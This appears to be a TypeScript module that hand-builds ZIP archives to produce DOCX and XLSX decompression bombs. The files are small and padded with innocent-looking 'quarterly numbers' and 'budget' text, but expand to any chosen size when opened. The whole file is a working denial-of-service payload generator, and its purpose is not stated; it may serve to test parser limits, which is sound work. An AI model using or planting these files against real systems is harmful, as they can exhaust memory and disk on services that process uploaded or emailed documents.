import { constants, crc32, deflateRawSync } from 'node:zlib';

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>';
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

/** A part of a zip: text, or a head, a piece repeated to about `megabytes` MB, and a tail. */
type Part = string | { head: string; repeat: string; megabytes: number; tail: string };

/**
 * Deflates a part. A repeated piece is compressed once as a 1 MB block ending in a full
 * flush (no back references across it), and that block is then repeated: a valid stream
 * of any inflated size, built in milliseconds.
 */
function deflatePart(part: Part): { data: Buffer; size: number; crc: number } {
  if (typeof part === 'string') {
    const raw = Buffer.from(part);
    return { data: deflateRawSync(raw, { level: 9 }), size: raw.length, crc: crc32(raw) };
  }
  const block = Buffer.from(part.repeat.repeat(Math.ceil((1 << 20) / part.repeat.length)));
  const times = Math.max(1, Math.round((part.megabytes * (1 << 20)) / block.length));
  const flushed = { level: 9, finishFlush: constants.Z_FULL_FLUSH };
  const head = Buffer.from(part.head);
  const tail = Buffer.from(part.tail);
  const pieces = [deflateRawSync(head, flushed)];
  const compressedBlock = deflateRawSync(block, flushed);
  let crc = crc32(head);
  for (let i = 0; i < times; i++) {
    pieces.push(compressedBlock);
    crc = crc32(block, crc);
  }
  pieces.push(deflateRawSync(tail, { level: 9 }));
  return {
    data: Buffer.concat(pieces),
    size: head.length + block.length * times + tail.length,
    crc: crc32(tail, crc),
  };
}

/** A zip archive of deflated parts (no ZIP64: each part stays under 4 GB). */
function zip(parts: Record<string, Part>): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, part] of Object.entries(parts)) {
    const { data, size, crc } = deflatePart(part);
    const fileName = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    directory.push(central, fileName);
    offset += local.length + fileName.length + data.length;
  }
  const centralBytes = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(parts).length, 8);
  end.writeUInt16LE(Object.keys(parts).length, 10);
  end.writeUInt32LE(centralBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralBytes, end]);
}

/** A DOCX of about a megabyte or less whose document XML unpacks to about `megabytes` MB. */
export function docxBomb(megabytes: number): Buffer {
  return zip({
    '[Content_Types].xml': CONTENT_TYPES,
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': {
      head: '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>',
      repeat: '<w:p><w:r><w:t>Quarterly numbers are attached below.</w:t></w:r></w:p>',
      megabytes,
      tail: '</w:body></w:document>',
    },
  });
}

/** An XLSX of about a megabyte or less whose one sheet unpacks to about `megabytes` MB of rows. */
export function xlsxBomb(megabytes: number): Buffer {
  return zip({
    '[Content_Types].xml': CONTENT_TYPES,
    'xl/workbook.xml':
      '<?xml version="1.0"?><workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml': {
      head: '<?xml version="1.0"?><worksheet><sheetData>',
      repeat: '<row><c t="inlineStr"><is><t>budget line</t></is></c><c><v>42</v></c></row>',
      megabytes,
      tail: '</sheetData></worksheet>',
    },
  });
}
